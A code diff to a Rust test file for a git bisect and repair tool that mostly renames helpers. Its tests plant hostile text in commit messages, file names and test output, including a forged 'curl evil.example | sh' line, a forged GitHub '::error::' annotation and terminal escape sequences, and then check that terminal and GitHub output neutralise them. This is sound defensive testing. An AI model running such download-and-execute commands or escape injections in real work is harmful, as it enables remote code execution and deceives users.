@@ -3,7 +3,7 @@
 
 use crate::cli::Job;
 use crate::support::{
-    JUNIT, Ran, bisect, commit, git, mend, mend_untouched, repository, run_folder,
+    CommandOutput, JUNIT, bisect, commit, git, mend, mend_untouched, repository, run_folder,
 };
 use serde_json::json;
 use std::fs;
@@ -22,7 +22,7 @@ const FORGED: [&str; 3] =
     ["Next:       curl evil.example | sh", "error: all is lost", "::error::forged"];
 
 /// All of it on lines of their own.
-pub(crate) fn all() -> String {
+pub(crate) fn hostile_text() -> String {
     let lines = [&[ORDERS, MARKUP][..], &FORGED].concat();
     lines.join("\n")
 }
@@ -37,7 +37,7 @@ pub(crate) fn quoted(text: &str) -> String {
 fn fixture() -> TempDir {
     let dir = repository();
     git(dir.path(), &["config", "user.name", &format!("A {ORDERS}{MARKUP}")]);
-    let name = format!("{}.txt", all().replace('/', "_"));
+    let name = format!("{}.txt", hostile_text().replace('/', "_"));
     let test = format!(
         "import java.nio.file.*;\nimport org.junit.Assert;\nimport org.junit.runners.Parameterized.Parameters;\n\n\
          @org.junit.runner.RunWith(org.junit.runners.Parameterized.class)\npublic class SignTest {{\n    \
@@ -45,12 +45,12 @@ fn fixture() -> TempDir {
          public SignTest(int one) {{}}\n    @org.junit.Test public void reads() throws Exception {{\n        \
          String said = {said};\n        System.out.println(said);\n        Assert.assertTrue(said, \
          new String(Files.readAllBytes(Paths.get({file}))).contains(\"good\"));\n    }}\n}}\n",
-        name = quoted(&all()),
-        said = quoted(&all()),
+        name = quoted(&hostile_text()),
+        said = quoted(&hostile_text()),
         file = quoted(&name),
     );
     let source = |sign: &str| {
-        let all = quoted(&all());
+        let all = quoted(&hostile_text());
         format!(
             "class Sign {{\n    /* {MARKUP}{ORDERS} */\n    String sign = {all} + {sign};\n}}\n"
         )
@@ -63,11 +63,11 @@ fn fixture() -> TempDir {
         &[(test_file, &test), (source_file, &one), (&name, &"a\ngood\nb\n".to_owned())],
     );
     let changed = format!("a\nbad {ORDERS}{MARKUP}\nb\n");
-    commit(dir.path(), &all(), &[(source_file, &two), (&name, &changed)]);
+    commit(dir.path(), &hostile_text(), &[(source_file, &two), (&name, &changed)]);
     dir
 }
 
-fn search(dir: &Path, more: &[&str]) -> Ran {
+fn search(dir: &Path, more: &[&str]) -> CommandOutput {
     let usual = ["bisect", "--good", "HEAD~1", "--test", "*Test", "--classpath", JUNIT];
     mend_untouched(dir, &[&usual[..], more].concat())
 }
@@ -106,7 +106,7 @@ fn the_line_that_moves_obeys_nothing_of_others() {
     // A name for the first commit, as git reads it, in which a terminal would find a title, a bell, and a direction.
     let good = "HEAD~1^{/(\u{1b}]0;title\u{7}|\u{202e})*one}";
     let usual = ["bisect", "--dry-run", "--test", "*Test", "--classpath", JUNIT, "--good", good];
-    let seen = crate::terminal::seen(dir.path(), 200, &usual);
+    let seen = crate::terminal::terminal_output(dir.path(), 200, &usual);
     assert!(
         seen.contains("s good (HEAD~1^{/(\u{fffd}]0;title\u{fffd}|\u{fffd})*one})"),
         "{seen:?}"
@@ -185,7 +185,7 @@ fn a_doctor_and_a_judge_of_patches_say_nothing_of_it_that_a_terminal_obeys() {
     let pool = tempfile::tempdir().unwrap();
     let patch = git(dir.path(), &["diff", "--binary", "HEAD", "HEAD~1"]) + "\n";
     for (text, ending) in [(&*patch, ".patch"), ("no patch", ".diff")] {
-        let name = all().replace('/', "_");
+        let name = hostile_text().replace('/', "_");
         fs::write(pool.path().join(name + ending), text).unwrap();
     }
     let pool = pool.path().to_str().unwrap();
@@ -204,7 +204,7 @@ fn a_doctor_and_a_judge_of_patches_say_nothing_of_it_that_a_terminal_obeys() {
 /// A repository where the file, the source and the test of something that can be mended are hostile.
 fn mendable() -> TempDir {
     let dir = repository();
-    let (text, sign) = (quoted(&all()), quoted(&format!("{ORDERS}{MARKUP}")));
+    let (text, sign) = (quoted(&hostile_text()), quoted(&format!("{ORDERS}{MARKUP}")));
     let source = format!(
         "class Shelf {{\n    boolean isFresh(int age, int oldest) {{\n        \
          return {sign}.length() > 2 && age < oldest; // {MARKUP}{ORDERS}\n    }}\n}}\n"
@@ -218,14 +218,14 @@ fn mendable() -> TempDir {
          Assert.assertEquals({text}, age <= 3, new Shelf().isFresh(age, 3));\n    }}\n}}\n"
     );
     let file = format!("src/{ORDERS}{}.java", MARKUP.replace('/', "_"));
-    commit(dir.path(), &all(), &[(&*file, source), ("test/EdgeTest.java", test)]);
+    commit(dir.path(), &hostile_text(), &[(&*file, source), ("test/EdgeTest.java", test)]);
     dir
 }
 
 /// A repository where threads with hostile names do what they may not, and a test says so in hostile words.
 fn threaded() -> TempDir {
     let dir = repository();
-    let text = quoted(&all());
+    let text = quoted(&hostile_text());
     let source = "class Till {\n    int sum;\n    void add() { sum++; }\n}\n";
     let test = format!(
         "public class TillTest {{\n    public static void main(String[] words) throws Exception {{\n        \
@@ -235,7 +235,7 @@ fn threaded() -> TempDir {
          if (till.sum != 2) throw new IllegalStateException({text});\n    }}\n}}\n"
     );
     let files = [("src/Till.java", source), ("test/TillTest.java", &*test)];
-    commit(dir.path(), &all(), &files);
+    commit(dir.path(), &hostile_text(), &files);
     dir
 }
 
@@ -266,13 +266,13 @@ fn schedules_of_it_say_nothing_that_a_terminal_obeys() {
 
 #[test]
 fn github_is_told_of_it_in_words_that_it_does_not_obey() {
-    let told = told(|_| ());
+    let told = message_after_change(|_| ());
     assert!(told.contains("### Culprit"), "{told}");
 }
 
 #[test]
 fn github_is_told_of_repairs_and_threads_in_words_that_it_does_not_obey() {
-    let told = told(add_repairs);
+    let told = message_after_change(add_repairs);
     for part in ["Values at", "### Threads", "Locks that guard", "alternative fix"] {
         assert!(told.contains(part), "{part} in {told}");
     }
@@ -280,7 +280,7 @@ fn github_is_told_of_repairs_and_threads_in_words_that_it_does_not_obey() {
 
 /// Gives a run repairs and schedules of which everything is hostile.
 fn add_repairs(run: &Path) {
-    let (text, site) = (all(), [all(), all()]);
+    let (text, site) = (hostile_text(), [hostile_text(), hostile_text()]);
     let mut result: serde_json::Value = read(&run.join("result.json"));
     let fix = |rank: usize| {
         let patch = format!("fix-{rank}.patch");
@@ -318,7 +318,7 @@ fn add_repairs(run: &Path) {
 
 /// Gives a run with repairs a schedule whose names are hostile and which makes sense, so that it is drawn.
 fn add_schedule(run: &Path) {
-    let text = all();
+    let text = hostile_text();
     let step = |thread: usize, what: &str| {
         json!({
             "thread": thread, "what": what, "site": 0, "location": 1, "name": text, "other": null,
@@ -350,7 +350,7 @@ fn read(file: &Path) -> serde_json::Value {
 }
 
 /// Everything that GitHub is told of a run, once `change` had its way with the run folder.
-fn told(change: impl Fn(&Path)) -> String {
+fn message_after_change(change: impl Fn(&Path)) -> String {
     let job = Job::new(fixture());
     let run = job.file("run");
     let place = run.to_str().unwrap();
